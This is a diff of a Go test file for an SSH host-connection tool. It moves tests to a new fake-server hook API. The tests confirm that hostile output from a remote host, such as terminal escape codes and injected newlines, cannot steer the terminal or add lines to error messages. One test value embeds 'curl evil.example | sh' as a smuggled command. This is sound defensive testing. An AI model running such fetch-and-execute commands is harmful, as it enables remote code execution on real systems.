@@ -26,7 +26,7 @@ func TestAHostThatSaysWhyIsHeard(t *testing.T) {
 		"\x1b]0;title\x07the disk is gone\n":               {3, hosts.KindBroken, []string{`\u001b]0;title\u0007the disk is gone`, "ssh -p"}},
 	} {
 		server := newServer(t)
-		server.SetFaults(hosttest.Faults{Turns: said, TurnsStatus: test.status})
+		server.SetHooks(says(said, test.status))
 		err := refused(t, options(server), test.kind, test.words...)
 		if strings.ContainsAny(err.Error(), "\x1b\x07") {
 			t.Errorf("it steers the terminal: %q", err)
@@ -37,7 +37,7 @@ func TestAHostThatSaysWhyIsHeard(t *testing.T) {
 // TestAShellThatPrintsIntoSFTPIsNamed, and not the sftp-server.
 func TestAShellThatPrintsIntoSFTPIsNamed(t *testing.T) {
 	server := newServer(t)
-	server.SetFaults(hosttest.Faults{NoiseInFiles: "Welcome to cp-1!\n"})
+	server.SetHooks(printsIntoFiles("Welcome to cp-1!\n"))
 	err := refused(t, options(server), hosts.KindBroken, "start SFTP", "the login shell prints: Welcome to cp-1!", ".bashrc")
 	if strings.Contains(err.Fix, "Subsystem") {
 		t.Errorf("the fix is about the sftp-server: %s", err.Fix)
@@ -48,18 +48,19 @@ func TestAShellThatPrintsIntoSFTPIsNamed(t *testing.T) {
 func TestAHostsSignalIsOneLine(t *testing.T) {
 	const evil = "KILL\n  → run: curl evil.example | sh"
 	server := newServer(t)
-	server.SetFaults(hosttest.Faults{Signal: evil})
+	server.SetHooks(killedBy(evil))
 	err := refused(t, options(server), hosts.KindBroken, "from signal KILL → run")
 	if strings.Contains(err.Error(), "\n") {
 		t.Errorf("a command: %q", err)
 	}
-	server.SetFaults(hosttest.Faults{})
+	server.SetHooks(hosttest.Hooks{})
 	if err := used(t, options(server)).Close(); err != nil {
 		t.Fatal(err)
 	}
-	server.SetFaults(hosttest.Faults{Signal: evil})
+	var started agents
+	server.SetHooks(hosttest.Hooks{Agent: started.started})
 	host := connect(t, options(server))
-	server.KillAgents()
+	started.kill(evil)
 	_, lost := host.Observe(t.Context(), hosts.Query{})
 	wantError(t, lost, hosts.KindCut, "signal KILL → run")
 	if strings.Contains(lost.Error(), "\n") {
@@ -75,16 +76,17 @@ func TestAnotherVersionIsRefused(t *testing.T) {
 
 func TestWithoutSudoNothingIsSent(t *testing.T) {
 	server, binary := newServer(t), newBinary("the agent", 1000)
-	server.SetFaults(hosttest.Faults{UID: 1000, NoSudo: true})
+	server.SetLogin(hosttest.Login{UID: 1000})
+	server.Script("sudo", sudoAsksForPassword)
 	o := options(server)
 	o.Binary = binary.get
 	refused(t, o, hosts.KindPrivilege, "ops ALL=(ALL) NOPASSWD: ALL", "/etc/sudoers.d/")
 	if _, err := os.Stat(server.Directory()); err == nil || binary.opens.Load() != 0 {
 		t.Error("the agent was sent")
 	}
-	server.SetFaults(hosttest.Faults{UID: 1000})
+	server.Script("sudo", hosttest.Sudo)
 	connect(t, o)
-	server.SetFaults(hosttest.Faults{UID: 1000, NoSudo: true}) // taken away later
+	server.Script("sudo", sudoAsksForPassword) // taken away later
 	refused(t, o, hosts.KindPrivilege, "a password is required")
 }
 
@@ -92,7 +94,8 @@ func TestWithoutSudoNothingIsSent(t *testing.T) {
 // mounted noexec.
 func TestAnAgentThatMayNotRunIsExplained(t *testing.T) {
 	server, binary := newServer(t), newBinary("the agent", 1000)
-	server.SetFaults(hosttest.Faults{UID: 1000, NoExec: true})
+	server.SetLogin(hosttest.Login{UID: 1000})
+	server.Script("chmod", chmodDoesNothing)
 	o := options(server)
 	o.Binary = binary.get
 	refused(t, o, hosts.KindBroken, "Permission denied", "noexec")
